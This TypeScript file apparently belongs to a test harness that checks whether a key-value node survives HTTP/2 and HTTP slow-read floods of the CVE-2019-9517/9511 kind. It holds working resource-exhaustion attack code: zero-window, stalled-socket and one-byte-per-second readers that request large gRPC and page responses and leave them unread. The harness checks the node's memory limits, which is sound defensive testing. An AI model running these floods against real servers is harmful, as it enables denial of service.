import { setTimeout as sleep } from 'node:timers/promises'
import type { Attack } from './attack.js'
import type { Field } from './field.js'
import {
  frame,
  frameTypes,
  getRequest,
  grpcMessage,
  protoBytes,
  RawHttp2,
  sessionGets,
  setting,
  uint32,
} from './wire.js'

const mib = 1_048_576
const initialWindowSize = 4
const widest = 0x7f_ff_ff_ff
/** What is read in a second by somebody who reads, but hardly. */
const trickleMs = 1_000

/** Opens connections that read nothing once they have asked, and stays until the node has enough of all of them. */
async function unread(
  field: Field,
  { windowBytes, streams, ask }: { windowBytes: number; streams: number; ask: (raw: RawHttp2) => Promise<unknown> },
): Promise<RawHttp2[]> {
  const all: RawHttp2[] = []
  while (field.sent < field.order.size && !field.over) {
    const raw = new RawHttp2(field)
    all.push(raw)
    await raw.begin(setting(initialWindowSize, windowBytes))
    if (windowBytes === widest) await raw.send(frame(frameTypes.windowUpdate, 0, 0, uint32(widest - 65_535)))
    for (let i = 0; i < streams && field.sent < field.order.size; i++, field.sent++) await ask(raw)
  }
  return all
}

const allClosed = (all: readonly RawHttp2[]): Promise<unknown> => Promise.all(all.map(({ closed }) => closed))

/** Gives back, once a second, room for one byte on each of the first streams of a connection, and of it. */
async function readSlowly(field: Field, all: readonly RawHttp2[], streams: number): Promise<void> {
  const trickling = setInterval(() => {
    for (const raw of all) {
      if (raw.gone) continue
      const updates = Array.from({ length: streams }, (_, i) => frame(frameTypes.windowUpdate, 0, 2 * i + 1, uint32(1)))
      raw.socket.write(Buffer.concat([frame(frameTypes.windowUpdate, 0, 0, uint32(streams)), ...updates]))
    }
  }, trickleMs)
  await field.hold(allClosed(all))
  clearInterval(trickling)
}

/** Pages over HTTP that are asked for and never read. */
async function unreadHttp(field: Field, head: string, times: number): Promise<void> {
  const text = `GET ${head} HTTP/1.1\r\nHost: localhost\r\n\r\n`.repeat(times)
  const ends: Promise<unknown>[] = []
  for (; field.sent < field.order.size && !field.over; field.sent++) {
    const socket = field.socket(field.order.httpPort).pause()
    socket.write(text)
    ends.push(
      new Promise((resolve) =>
        socket.once('close', () => {
          field.tell('connection closed')
          resolve(undefined)
        }),
      ),
    )
    if (field.sent % 20 === 0) await sleep(10)
  }
  await field.hold(Promise.all(ends))
}

/** Gets of one session. */
const getsEach = 70
/** What `answerBytesMax`, `resultBytesMax` and `httpBodiesBytesMax` are, in MiB. */
const answersMiB = 256

/** What is asked of the node, again and again. */
type Ask = (raw: RawHttp2, bigKey: string) => Promise<number>

const get: Ask = (raw, bigKey) => raw.call('/kv.v1.Kv/Get', grpcMessage(getRequest(bigKey)))
const scan: Ask = (raw, bigKey) =>
  raw.call('/kv.v1.Kv/Scan', grpcMessage(protoBytes(1, Buffer.from(bigKey.slice(0, 5)))))
const session: Ask = (raw, bigKey) => raw.call('/kv.v1.Kv/Session', grpcMessage(sessionGets(bigKey, getsEach)), false)

interface Reader {
  readonly name: string
  readonly size: Attack['size']
  readonly ask: Ask
  /** What each brings, in MiB. */
  readonly answerMiB: number
  /** Calls of one connection. */
  readonly streams: number
  /** How it does not read: no window on the streams; nothing taken from the connection; or a byte of each stream in a second. */
  readonly habit: 'no-window' | 'stalled' | 'slow'
}

const windows = { 'no-window': 0, stalled: widest, slow: 1 } as const

function readerFlood({ name, size, ask, answerMiB, streams, habit }: Reader): Attack {
  return {
    name,
    size,
    holdMs: { short: 100, long: habit === 'slow' ? 90_000 : 70_000 },
    // What those leave who are cut off is garbage when the next are answered: it is in the slack.
    mayHoldBytes: (count) => Math.min(answersMiB, answerMiB * count) * mib,
    run: async (field) => {
      const askOn = (raw: RawHttp2): Promise<number> => {
        if (habit === 'stalled') raw.socket.pause()
        return ask(raw, field.order.bigKey)
      }
      const all = await unread(field, { windowBytes: windows[habit], streams, ask: askOn })
      if (habit === 'slow') await readSlowly(field, all, streams)
      else await field.hold(allClosed(all))
    },
  }
}

/** Callers who ask for much and take little or nothing of it (CVE-2019-9517, CVE-2019-9511). */
export const readerFloods: readonly Attack[] = [
  ...(
    [
      {
        name: 'unread-gets',
        size: { short: 64, long: 3_000 },
        ask: get,
        answerMiB: 1,
        streams: 250,
        habit: 'no-window',
      },
      {
        name: 'stalled-gets',
        size: { short: 64, long: 3_000 },
        ask: get,
        answerMiB: 1,
        streams: 250,
        habit: 'stalled',
      },
      {
        name: 'unread-scans',
        size: { short: 16, long: 2_000 },
        ask: scan,
        answerMiB: 1,
        streams: 50,
        habit: 'no-window',
      },
      {
        name: 'unread-sessions',
        size: { short: 2, long: 40 },
        ask: session,
        answerMiB: 64,
        streams: 1,
        habit: 'no-window',
      },
      // Who takes a byte a second has taken something.
      { name: 'slow-gets', size: { short: 32, long: 500 }, ask: get, answerMiB: 1, streams: 50, habit: 'slow' },
      { name: 'slow-sessions', size: { short: 2, long: 40 }, ask: session, answerMiB: 64, streams: 1, habit: 'slow' },
    ] satisfies Reader[]
  ).map(readerFlood),
  {
    name: 'unread-feeds',
    size: { short: 40, long: 400 },
    holdMs: { short: 100, long: 70_000 },
    // `feedStreamsMax`.
    mayHoldBytes: (size) => Math.min(64, size) * mib,
    run: (field) => unreadHttp(field, '/feed', 1),
  },
  {
    name: 'unread-pages',
    size: { short: 20, long: 400 },
    holdMs: { short: 100, long: 70_000 },
    mayHoldBytes: (size) => Math.min(answersMiB, 20 * size) * mib * 2,
    run: (field) => unreadHttp(field, `/kv/${encodeURIComponent(field.order.bigKey)}`, 20),
  },
]
